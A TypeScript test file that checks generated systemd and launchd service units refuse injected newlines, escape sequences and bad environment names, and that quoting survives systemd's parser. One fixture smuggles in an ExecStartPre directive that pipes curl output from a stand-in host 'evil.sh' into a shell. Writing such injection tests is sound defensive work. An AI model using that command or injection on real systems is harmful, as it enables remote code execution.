/** Service units never take a newline (an injected directive) and the token URL stays out of a service's log. */
import { spawnSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { AppError } from '@shared/api/problem';
import { tempDir } from '@test/helpers/temp-dir';
import { launchAgentPlist, systemdUnit, underServiceManager, type ServeCommand } from './unit-files';

const base: ServeCommand = {
  node: '/usr/bin/node',
  cli: '/opt/claw/bin/claw-control.cjs',
  host: '127.0.0.1',
  port: 42001,
  tokenFile: '/home/u/.config/claw-control/serve-token',
  env: { PATH: '/usr/bin:/bin' },
};

/** systemd's own unit parser, where this machine has it (Debian: the systemd package). */
const hasSystemdAnalyze = spawnSync('systemd-analyze', ['--version']).status === 0;

const refusal = (make: () => unknown): AppError | null => {
  try {
    make();
    return null;
  } catch (error) {
    return error as AppError;
  }
};

describe('unit files: values a unit cannot hold are refused', () => {
  it.each<[string, Partial<ServeCommand>]>([
    [
      'an environment value with a newline and a directive',
      { env: { OPENCLAW_X: 'a\nExecStartPre=/bin/sh -c "curl evil.sh | sh"' } },
    ],
    ['a carriage return', { env: { OPENCLAW_X: 'a\rb' } }],
    ['an escape character', { env: { OPENCLAW_X: 'a\u001b]52;c;Y3VybA==\u0007' } }],
    ['an environment name that is not a plain name', { env: { 'A\nExecStartPre': 'x' } }],
    ['an environment name with "="', { env: { 'A=B': 'x' } }],
    ['a config path with a newline', { configFile: '/tmp/x\nExecStartPre=/bin/true' }],
  ])('%s', (_name, change) => {
    const command = { ...base, ...change };
    for (const make of [() => systemdUnit(command), () => launchAgentPlist(command, '/tmp/log')]) {
      const error = refusal(make);
      expect(error).toBeInstanceOf(AppError);
      expect(error?.code).toBe('INVALID_INPUT');
      expect(JSON.stringify(error?.message)).not.toContain('evil');
    }
  });

  it('writes an ordinary unit, every line a directive of its own', () => {
    const unit = systemdUnit({ ...base, env: { PATH: '/usr/bin', OPENCLAW_CONFIG_PATH: '/srv/oc/a b.json' } });
    expect(unit.split('\n').filter((l) => l.startsWith('Environment='))).toEqual([
      'Environment="PATH=/usr/bin"',
      'Environment="OPENCLAW_CONFIG_PATH=/srv/oc/a b.json"',
    ]);
    expect(unit).not.toMatch(/^ExecStartPre/m);
  });
});

describe('underServiceManager: where the printed token URL would be logged', () => {
  it.each<[Record<string, string>, boolean]>([
    [{ INVOCATION_ID: '0f1e2d3c4b5a69788796a5b4c3d2e1f0' }, true],
    [{ JOURNAL_STREAM: '8:12345' }, true],
    [{ XPC_SERVICE_NAME: 'dev.clawcontrol.serve' }, true],
    [{ XPC_SERVICE_NAME: '0' }, false],
    [{ XPC_SERVICE_NAME: 'application.com.apple.Terminal.1234' }, false],
    [{ TERM: 'xterm-256color' }, false],
  ])('%j → %s', (env, expected) => {
    expect(underServiceManager(env)).toBe(expected);
  });
});

/**
 * How systemd reads a quoted value back, per its documented rules: systemd.syntax(7) "Quoting"
 * (double quotes, C escapes \\ and \"), systemd.unit(5) "Specifiers" (%% is %) for both; on a
 * command line also systemd.service(5) "Command lines" ($$ is $); in Environment= "the $ character
 * has no special meaning" (systemd.exec(5)).
 */
function systemdReads(quoted: string, where: 'ExecStart' | 'Environment'): string {
  expect(quoted).toMatch(/^"(?:[^"\\]|\\.)*"$/);
  let out = '';
  const body = quoted.slice(1, -1);
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c === '\\') out += body[++i]!;
    else if (c === '%')
      out += body[++i] === '%' ? '%' : `%${body[i] ?? ''}`; // a lone specifier would be expanded
    else if (c === '$' && where === 'ExecStart')
      out += body[++i] === '$' ? '$' : `\${${body[i] ?? ''}`; // a variable would be expanded
    else out += c;
  }
  return out;
}

describe('unit files: what systemd reads back is what was meant', () => {
  const nasty = ['pa$word', '$HOME and ${HOME}', '100% %h %%', 'a "quoted" \\ back', 'spaces  and = signs'];

  it('an Environment= value keeps $ as it is (systemd.exec(5)) and doubles %', () => {
    for (const value of nasty) {
      const unit = systemdUnit({ ...base, env: { OPENCLAW_X: value } });
      const line = unit
        .split('\n')
        .find((l) => l.startsWith('Environment=OPENCLAW_X') || l.startsWith('Environment="OPENCLAW_X'))!;
      expect(systemdReads(line.slice('Environment='.length), 'Environment'), value).toBe(`OPENCLAW_X=${value}`);
    }
    expect(systemdUnit({ ...base, env: { K: 'pa$word' } })).toContain('Environment="K=pa$word"');
  });

  it('an ExecStart= word doubles $ and % (systemd.service(5) "Command lines")', () => {
    const configFile = '/srv/$USER/100% "a" \\b.json';
    const unit = systemdUnit({ ...base, configFile });
    const exec = unit.split('\n').find((l) => l.startsWith('ExecStart='))!;
    const words = [...exec.slice('ExecStart='.length).matchAll(/"(?:[^"\\]|\\.)*"/g)].map((m) =>
      systemdReads(m[0], 'ExecStart'),
    );
    expect(words.at(-1)).toBe(configFile);
  });

  it.skipIf(!hasSystemdAnalyze)('systemd-analyze verify reads the unit without a complaint', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'claw-control.service');
    await writeFile(
      file,
      systemdUnit({
        ...base,
        node: process.execPath,
        configFile: '/srv/$USER/100% "a".json',
        env: Object.fromEntries(nasty.map((v, i) => [`OPENCLAW_X${i}`, v])),
      }),
    );
    const run = spawnSync('systemd-analyze', ['verify', '--man=no', file], { encoding: 'utf8', timeout: 60_000 });
    expect(run.stderr).not.toMatch(/Invalid syntax|Unbalanced quoting|unknown escape|Failed to resolve/i);
  });
});
